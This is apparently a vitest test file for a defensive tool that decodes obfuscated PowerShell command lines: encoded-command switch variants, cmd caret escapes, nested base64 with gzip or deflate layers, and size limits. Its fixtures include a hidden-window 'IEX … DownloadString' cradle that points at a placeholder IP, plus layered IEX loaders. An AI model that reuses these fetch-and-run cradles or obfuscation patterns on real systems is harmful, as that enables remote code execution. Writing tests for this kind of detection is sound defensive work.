import { gzipSync, deflateRawSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { decodePowerShell, decodedSummary } from './decode-powershell.js';

const SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://10.9.9.9/a')";
const b64u16 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');

describe('decodePowerShell', () => {
  const abbreviations = ['e', 'ec', 'en', 'enc', 'enco', 'encod', 'encode', 'encoded', 'encodedc', 'encodedco', 'encodedcom', 'encodedcomm', 'encodedcomma', 'encodedcomman', 'encodedcommand'];
  for (const abbr of abbreviations) {
    for (const variant of [abbr, abbr.toUpperCase(), abbr[0]!.toUpperCase() + abbr.slice(1)]) {
      it(`decodes -${variant}`, () => {
        const r = decodePowerShell(`powershell.exe -nop -w hidden -${variant} ${b64u16(SCRIPT)}`);
        expect(r.layers).toHaveLength(1);
        expect(r.layers[0]!.kind).toBe('encoded-command');
        expect(r.layers[0]!.marker).toBe(`-${variant}`);
        expect(r.layers[0]!.text).toBe(SCRIPT);
      });
    }
  }
  for (const dash of ['/', '\u2013', '\u2014', '\u2015']) {
    it(`accepts ${JSON.stringify(dash)} as the switch character`, () => {
      const r = decodePowerShell(`pwsh ${dash}EnC ${b64u16(SCRIPT)}`);
      expect(r.layers.map((l) => l.text)).toEqual([SCRIPT]);
    });
  }
  it('sees through cmd.exe caret escapes in the switch and the payload', () => {
    const payload = b64u16(SCRIPT);
    const careted = `${payload.slice(0, 5)}^${payload.slice(5)}`;
    const r = decodePowerShell(`cmd.exe /c p^owershell -^e^n^c ${careted}`);
    expect(r.layers.map((l) => [l.marker, l.text])).toEqual([['-enc', SCRIPT]]);
    // A caret the scan does not need leaves the ordinary result untouched.
    expect(decodePowerShell(`cmd /c echo ^<x^> & powershell -enc ${payload}`).layers[0]?.offset).toBe(
      `cmd /c echo ^<x^> & powershell -enc `.length,
    );
    expect(decodePowerShell('cmd /c echo a^|b -^x').layers).toEqual([]);
  });
  it('accepts a quoted payload and a colon after the switch', () => {
    expect(decodePowerShell(`powershell -enc "${b64u16(SCRIPT)}"`).layers[0]?.text).toBe(SCRIPT);
    expect(decodePowerShell(`powershell -e:${b64u16(SCRIPT)}`).layers[0]?.text).toBe(SCRIPT);
  });
  it('does not take other switches for -EncodedCommand', () => {
    for (const cmd of [
      'powershell -ExecutionPolicy Bypass -File x.ps1',
      'powershell -ep bypass -f x.ps1',
      'powershell -exec bypass -Command Get-Process',
      'cmd.exe /c echo hello',
      `powershell -ex ${b64u16(SCRIPT)}`,
    ]) {
      expect(decodePowerShell(cmd).layers, cmd).toEqual([]);
    }
  });
  it('reports bad base64 instead of inventing text', () => {
    const r = decodePowerShell('powershell -enc QUJD=REVG');
    expect(r.layers).toEqual([]);
    expect(r.errors.length).toBe(1);
  });
  it('decompresses a FromBase64String gzip payload and follows nesting', () => {
    const inner = `powershell -enc ${b64u16(SCRIPT)}`;
    const gz = gzipSync(Buffer.from(inner, 'utf8')).toString('base64');
    const outer = `$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('${gz}'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()`;
    const r = decodePowerShell(`powershell -enc ${b64u16(outer)}`);
    expect(r.layers.map((l) => [l.kind, l.depth])).toEqual([
      ['encoded-command', 1],
      ['base64+gzip', 2],
      ['encoded-command', 3],
    ]);
    expect(r.layers[1]!.text).toBe(inner);
    expect(r.layers[2]!.text).toBe(SCRIPT);
    const summary = decodedSummary(r)!;
    expect(summary.startsWith(outer)).toBe(true);
    expect(summary).toContain(SCRIPT);
  });
  it('decompresses DeflateStream payloads (raw deflate)', () => {
    const d = deflateRawSync(Buffer.from(SCRIPT, 'utf8')).toString('base64');
    const r = decodePowerShell(`IEX(New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String("${d}"),[IO.Compression.CompressionMode]::Decompress)))).ReadToEnd()`);
    expect(r.layers).toHaveLength(1);
    expect(r.layers[0]!.kind).toBe('base64+deflate');
    expect(r.layers[0]!.text).toBe(SCRIPT);
  });
  it('stops nesting at maxDepth', () => {
    let text = SCRIPT;
    for (let i = 0; i < 8; i++) text = `powershell -enc ${b64u16(text)}`;
    const r = decodePowerShell(text, { maxDepth: 3 });
    expect(r.layers).toHaveLength(3);
    expect(r.layers.map((l) => l.depth)).toEqual([1, 2, 3]);
  });
  it('caps a huge payload: bounded output, truncation reported', () => {
    const huge = 'QQBBAEEA'.repeat(4_000_000); // "AAA…" in UTF-16LE, 32 MB of base64
    const r = decodePowerShell(`powershell -enc ${huge}`, { maxInputChars: 1_000_000, maxOutputChars: 10_000 });
    expect(r.truncated).toBe(true);
    expect(r.layers).toHaveLength(1);
    expect(r.layers[0]!.truncated).toBe(true);
    expect(r.layers[0]!.text.length).toBeLessThanOrEqual(10_000);
    expect(r.layers[0]!.text.startsWith('AAAA')).toBe(true);
    expect(r.errors.some((e) => e.includes('only the start'))).toBe(true);
  });
  it('refuses a gzip bomb beyond the output limit and says so', () => {
    const bomb = gzipSync(Buffer.alloc(50_000_000, 0x41)).toString('base64');
    const r = decodePowerShell(`[Convert]::FromBase64String('${bomb}') | GzipStream`, { maxOutputChars: 100_000 });
    expect(r.truncated).toBe(true);
    expect(r.errors.some((e) => e.includes('exceeds'))).toBe(true);
  });
  it('leaves ordinary command lines alone', () => {
    expect(decodePowerShell('C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s BITS')).toEqual({ layers: [], truncated: false, errors: [] });
    expect(decodedSummary(decodePowerShell('notepad.exe'))).toBeNull();
  });
});
